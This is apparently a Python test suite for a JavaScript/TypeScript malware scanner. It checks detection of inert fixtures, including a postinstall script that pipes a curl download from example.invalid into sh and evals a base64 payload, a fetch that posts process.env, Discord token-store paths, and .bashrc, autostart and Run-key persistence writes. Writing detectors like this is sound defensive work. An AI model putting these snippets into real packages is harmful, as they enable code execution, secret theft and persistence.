"""JavaScript and TypeScript scanning on inert code written here: parsed, never run."""

from __future__ import annotations

from malgraph.analysis.languages import scan_code
from malgraph.analysis.scanning import CodeScan

# An install script that would run a shell command and evaluate a base64 payload ("1+1").
POSTINSTALL = """\
const {exec} = require("node:child_process");
const s = "MSsx";
exec("curl -s https://example.invalid/x | sh");
eval(Buffer.from(s, 'base64').toString());
"""


def scan(text: str, path: str = "package/scripts/postinstall.js") -> CodeScan:
    return scan_code(path, text, "javascript")


def found(result: CodeScan) -> set[tuple[str, str, int]]:
    return {(f.category, f.api, f.line) for f in result.findings}


def test_postinstall_runs_a_command_and_evaluates_a_decoded_payload() -> None:
    result = scan(POSTINSTALL)
    assert [(i.module, i.kind, i.relative, i.line) for i in result.imports] == [
        ("node:child_process", "require", False, 1)
    ]
    assert found(result) == {
        ("process", "child_process.exec", 3),
        ("decode", "Buffer.from", 4),
        ("eval", "eval", 4),
    }
    exec_finding = next(f for f in result.findings if f.category == "process")
    assert exec_finding.snippet == 'exec("curl -s https://example.invalid/x | sh");'
    assert exec_finding.file == "package/scripts/postinstall.js"
    assert result.problems == ()


def test_esm_dynamic_and_relative_imports() -> None:
    text = """\
import fs from 'fs';
import * as cp from "child_process";
import { request as r } from 'node:https';
import './side-effect.js';
export { helper } from '../lib/helper';
const plugin = await import('@scope/pkg/sub');
const other = import('x' + y);
const local = require('/abs/path');
const mod = require(`tpl`);
"""
    result = scan(text, "index.mjs")
    assert [(i.module, i.kind, i.relative) for i in result.imports] == [
        ("fs", "esm", False),
        ("child_process", "esm", False),
        ("node:https", "esm", False),
        ("./side-effect.js", "esm", True),
        ("../lib/helper", "esm", True),
        ("@scope/pkg/sub", "dynamic", False),
        ("/abs/path", "require", True),
        ("tpl", "require", False),
    ]
    # `import('x' + y)` names no module: a finding, not an import.
    assert found(result) == {("dynamic-import", "import()", 7)}


def test_bindings_resolve_calls_through_names_members_and_transpiled_code() -> None:
    text = """\
const cp = require('child_process');
const { spawn: run } = require('child_process');
import * as vm from 'vm';
import axios from 'axios';
var _child = _interopRequireDefault(require("child_process"));
cp.execSync('id');
run('id');
require('child_process').fork('x.js');
(0, _child.default.execFile)('id');
new vm.Script('1');
axios.post('https://example.invalid', {});
cp['exec']('id');
const x = require(name);
"""
    assert found(scan(text)) == {
        ("process", "child_process.execSync", 6),
        ("process", "child_process.spawn", 7),
        ("process", "child_process.fork", 8),
        ("process", "child_process.execFile", 9),
        ("eval", "vm.Script", 10),
        ("network", "axios.post", 11),
        ("process", "child_process.exec", 12),
        ("dynamic-import", "require", 13),
    }


def test_globals_with_their_conditions() -> None:
    text = """\
setTimeout("alert(1)", 10);
setTimeout(() => 1, 10);
new Function("return this")();
(0, eval)("1");
window['eval']("1");
const a = atob("aGk=");
const b = Buffer.from("6869", "hex");
const c = Buffer.from("hi", "utf8");
const d = String.fromCharCode(104, 105, 33, 33);
const e = String.fromCharCode(65);
const f = decodeURIComponent("%68%69%21%21");
const g = decodeURIComponent(q);
fetch("https://example.invalid", { method: "POST", body: JSON.stringify(process.env) });
const xhr = new XMLHttpRequest();
"""
    assert found(scan(text)) == {
        ("eval", "setTimeout", 1),
        ("eval", "Function", 3),
        ("eval", "eval", 4),
        ("eval", "eval", 5),
        ("decode", "atob", 6),
        ("decode", "Buffer.from", 7),
        ("decode", "String.fromCharCode", 9),
        ("decode", "decodeURIComponent", 11),
        ("network", "fetch", 13),
        ("env", "process.env", 13),
        ("network", "XMLHttpRequest", 14),
    }


def test_module_apis_need_a_binding() -> None:
    # Local functions called request/get/exec are everywhere: without a require they are nothing.
    text = """\
function request(u) { return u; }
const re = /a/;
request('x'); re.exec('a'); get('y');
const http = require('http');
http.get('http://example.invalid');
"""
    assert found(scan(text)) == {("network", "http.get", 5)}


def test_credentials_and_startup_writes() -> None:
    run_key = (
        "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"  # as written in JS
    )
    text = f"""\
const fs = require('fs');
const os = require('os');
const path = require('path');
const wallet = require('ethereum-wallet');
const leveldb = path.join(os.homedir(), 'AppData/Roaming/discord/Local Storage/leveldb');
const rc = path.join(os.homedir(), '.bashrc');
fs.appendFileSync(rc, 'alias ls=true');
fs.writeFileSync(os.homedir() + '/.config/autostart/x.desktop', '[Desktop Entry]');
fs.readFileSync(os.homedir() + '/.zshrc');
require('child_process').execSync('reg add {run_key} /v x');
"""
    result = found(scan(text))
    assert {f for f in result if f[0] in ("credentials", "startup-write")} == {
        ("credentials", "discord", 5),
        ("credentials", "Local Storage/leveldb", 5),
        ("startup-write", ".bashrc", 7),  # through the variable `rc`
        ("startup-write", ".config/autostart", 8),
        ("startup-write", "CurrentVersion\\Run", 10),
    }


def test_typescript_is_read_tolerantly_without_a_problem() -> None:
    text = """\
import { exec } from 'child_process';
interface Options { cmd: string }
export function run(o: Options): void {
  exec(o.cmd as string);
}
"""
    result = scan_code("src/run.ts", text, "javascript")
    assert [i.module for i in result.imports] == ["child_process"]
    assert found(result) == {("process", "child_process.exec", 4)}
    assert result.problems == ()


def test_broken_javascript_reports_a_problem_and_keeps_what_it_can() -> None:
    text = "const cp = require('child_process');\nfunction (( {\ncp.exec('id');\n"
    result = scan(text, "broken.js")
    assert [i.module for i in result.imports] == ["child_process"]
    assert result.problems == ("broken.js: javascript syntax error at line 2, read tolerantly",)


def test_files_without_any_trigger_are_not_parsed() -> None:
    assert scan("export default function add(a, b) { return a + b; }\n").findings == ()
    assert scan("function add(a, b) { return a + b; }\n") == CodeScan((), (), ())


def test_dense_files_fall_back_to_one_query_over_the_tree() -> None:
    # Over 48 separate spans of trigger words: one pass over the whole tree instead.
    lines = [f"const m{i} = require('mod{i}');\n" + "// padding\n" * 8 for i in range(60)]
    lines.append("eval(m0);\n")
    result = scan("".join(lines))
    assert len(result.imports) == 60
    assert found(result) == {("eval", "eval", 60 * 9 + 1)}
